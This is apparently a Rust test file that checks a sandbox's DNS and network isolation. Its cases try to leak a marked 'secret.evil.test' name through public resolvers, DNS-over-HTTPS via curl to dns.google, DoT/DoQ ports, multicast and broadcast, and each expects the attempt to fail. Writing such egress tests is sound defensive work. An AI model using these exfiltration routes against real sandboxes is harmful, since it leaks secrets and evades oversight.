//! Names: only the trusted ones exist, and nothing is forwarded.

use crate::{
    case::{Case, Step, Weak},
    step::{connect, curl, dns, dns_at, lookup, tcp, udp},
};
use serde_json::json;

const CONTROLS: [&str; 2] = ["control look up", "control curl by name"];

pub(super) fn cases() -> Vec<Case> {
    vec![other_servers(), the_engine_s(), below_a_trusted_name(), over_https(), multicast(), keys()]
}

fn other_servers() -> Case {
    let asked = "{mark}d01.secret.evil.test";
    Case::new("D-01", Weak::Broken)
        .controls(&CONTROLS)
        .step(dns_at("8.8.8.8", "udp", asked).traced("public dns", "{mark}d01"))
        .step(dns_at("8.8.8.8", "tcp", asked).traced("public dns", "{mark}d01"))
        .step(dns_at("1.1.1.1", "udp", asked).traced("public dns", "{mark}d01"))
        .step(udp("11.0.0.66", 53, "evil udp"))
}

fn the_engine_s() -> Case {
    let asked = "{mark}d02.secret.evil.test";
    let engine = json!({"act": "dns", "server": "127.0.0.11", "query": asked, "type": 1});
    Case::new("D-02", Weak::Broken)
        .controls(&CONTROLS)
        .step(dns(asked, 1, "NXDOMAIN 0", &["NOERROR*"]).traced("resolver", "{mark}d02"))
        .step(dns(asked, 16, "NXDOMAIN 0", &["NOERROR*"]).traced("resolver", "{mark}d02"))
        .step(lookup(asked, "unknown name", &["found*"]).traced("resolver", "{mark}d02"))
        .step(Step::new("127.0.0.11", engine, &["ECONNREFUSED"], &["NOERROR*"]).traced("resolver", "{mark}d02"))
        // Nor does the proxy ask for it.
        .step(
            Step { name: "through the proxy".into(), ..connect("{mark}d02.evil.test:443", "no_route", "resolver") }
                .traced("resolver", "{mark}d02")
                .recorded("{mark}d02.evil.test:443", "no_route"),
        )
}

fn below_a_trusted_name() -> Case {
    let label = "a".repeat(63);
    let long = format!("{{mark}}d03.{label}.{label}.ok.test");
    let asked = "{mark}d03.ok.test";
    Case::new("D-03", Weak::Broken)
        .controls(&CONTROLS)
        .steps(
            [1, 10, 16, 28].map(|kind| dns(asked, kind, "NXDOMAIN 0", &["NOERROR*"]).traced("resolver", "{mark}d03")),
        )
        .step(
            Step { name: "long labels".into(), ..dns(&long, 1, "NXDOMAIN 0", &["NOERROR*"]) }
                .traced("resolver", "{mark}d03"),
        )
        .step(lookup(asked, "unknown name", &["found*"]).traced("resolver", "{mark}d03"))
        .scene("settings")
}

fn over_https() -> Case {
    let query = "{mark}-doh?name=secret.evil.test";
    Case::new("D-04", Weak::Broken)
        .controls(&CONTROLS)
        .step(connect("dns.google:443", "no_route", "public doh"))
        .step(connect("1.1.1.1:443", "bad_name", "public doh"))
        .step(connect("one.one.one.one:443", "no_route", "public doh"))
        .step(
            curl(
                "curl",
                &["--cacert", "ca.pem", &format!("https://dns.google/{query}")],
                &["56"],
                &["0 from public doh"],
            )
            .traced("public doh", "{mark}-doh"),
        )
        .step(tcp("1.1.1.1", 853, "public doh"))
        .step(udp("1.1.1.1", 853, "public doq"))
}

fn multicast() -> Case {
    let broadcast = |host: &str| {
        let act = json!({"act": "udp", "host": host, "port": 137, "broadcast": true, "bytes": format!("{{mark}} broadcast {host}")});
        Step::new(format!("NetBIOS {host}"), act, &["ENETUNREACH", "EHOSTUNREACH", "EACCES"], &["sent"])
            .traced("broadcast", format!("{{mark}} broadcast {host}"))
            .everywhere()
    };
    Case::new("D-05", Weak::Broken)
        .controls(&CONTROLS)
        .step(udp("224.0.0.251", 5353, "multicast"))
        .step(udp("224.0.0.252", 5355, "multicast"))
        .step(broadcast("172.17.255.255"))
        .step(broadcast("255.255.255.255"))
}

fn keys() -> Case {
    Case::new("D-06", Weak::Broken)
        .controls(&CONTROLS)
        .step(dns("ok.test", 65, "REFUSED 0", &["NOERROR 1"]))
        .step(dns("ok.test", 64, "REFUSED 0", &["NOERROR 1"]))
        .step(dns("evil.test", 65, "NXDOMAIN 0", &["NOERROR 1"]))
}
